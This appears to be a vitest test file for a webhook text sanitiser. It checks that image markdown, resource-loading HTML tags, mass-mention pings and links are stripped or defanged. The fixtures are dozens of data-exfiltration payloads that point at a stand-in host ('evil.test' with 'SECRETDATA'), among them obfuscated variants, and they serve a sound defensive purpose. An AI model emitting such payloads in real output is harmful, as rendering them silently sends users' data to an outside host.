import { describe, expect, it } from 'vitest';
import { formatPayload } from '../../src/delivery/webhook-format.ts';
import { defangLinks, plainText } from '../../src/domain/delivery-text.ts';

const EVIL = 'https://evil.test/p.png?d=SECRETDATA';

describe('a picture in what people get', () => {
  it.each([
    `![x](${EVIL})`,
    `![](${EVIL})`,
    `![x](<${EVIL}>)`,
    `![x](${EVIL} "title")`,
    `![x](  ${EVIL}  )`,
    `![a\\]b](${EVIL})`,
    `![a[b]c](${EVIL})`,
    `![a\nb](${EVIL})`,
    `![${'a'.repeat(1_500)}](${EVIL})`,
    `![x](//evil.test/p.png)`,
    `![x](HTTPS://evil.test/p.png)`,
    `[![x](${EVIL})](${EVIL})`,
    `![x][1]\n\n[1]: ${EVIL}`,
    `[1]: ${EVIL}\n![1]`,
    `![x] [1]\n> [1]: ${EVIL}`,
    `![1][]\n[1]: <${EVIL}>`,
    `<img src="${EVIL}">`,
    `<IMG\nSRC='${EVIL}'/>`,
    `<img/src=${EVIL}`,
    `<svg><image href="${EVIL}"/></svg>`,
    `<picture><source srcset="${EVIL}"></picture>`,
    `<video poster="${EVIL}"></video>`,
    `<audio src="${EVIL}">`,
    `<iframe src="${EVIL}"></iframe>`,
    `<object data="${EVIL}">`,
    `<link rel=stylesheet href="${EVIL}">`,
    `<style>@import "${EVIL}"</style>`,
    `<script src="${EVIL}"></script>`,
    `<input type=image src="${EVIL}">`,
    `<body background="${EVIL}">`,
    `<meta http-equiv=refresh content="0;url=${EVIL}">`,
    `!\u200b[x](${EVIL})`,
    `!\u0000[x](${EVIL})`,
  ])('is none any more: %s', (text) => {
    const shown = plainText(`Fine.\n\n${text}\n\nBye.`);
    expect(shown).not.toMatch(/!\[/);
    expect(shown).not.toMatch(
      /<\/?(img|image|svg|source|video|audio|iframe|object|link|style|script|input|body|meta)\b/i,
    );
    expect(shown).toContain('Fine.');
  });

  it('is not seen where there is none', () => {
    const text = 'Wow! [docs](https://docs.acme.test/a?b=c) a < b, 2 > 1, if (!list[0]) x; <b>bold</b>, done![1]';
    expect(plainText(text)).toBe(text);
  });
});

describe('a bell', () => {
  it.each(['@channel', '@here', '@all', '@everyone', '@EVERYONE!', '(@channel)', 'hi @here, look', '<users/all>'])(
    'does not ring: %s',
    (text) => {
      expect(plainText(text)).not.toMatch(/@(channel|here|all|everyone)|<users/i);
    },
  );

  it.each(['<!channel>', '<@U123>', '<!subteam^S1>', '<#C1>', '<mailto:a@b|x>', `<${EVIL}|Click>`, '&lt;!here&gt;'])(
    'of Slack does not ring: %s',
    (text) => {
      const body = formatPayload(
        { automation: 'a', status: 'success', timestamp: '', text: plainText(text), run: 'r' },
        'slack',
      );
      expect(body.text).not.toMatch(/[<>]/);
    },
  );

  it('leaves people and addresses alone', () => {
    const text = 'Ask @anna or me@all.test, see user@here.example and @channels.';
    expect(plainText(text)).toBe(text);
  });
});

describe('a link in an alert', () => {
  it.each([EVIL, 'HTTP://evil.test/?d=SECRETDATA', `(${EVIL})`, `[x](${EVIL})`, `"${EVIL}"`, `<${EVIL}>`])(
    'leads nowhere and takes nothing along: %s',
    (text) => {
      expect(defangLinks(text)).not.toMatch(/https?:\/\/|SECRETDATA/i);
    },
  );
});
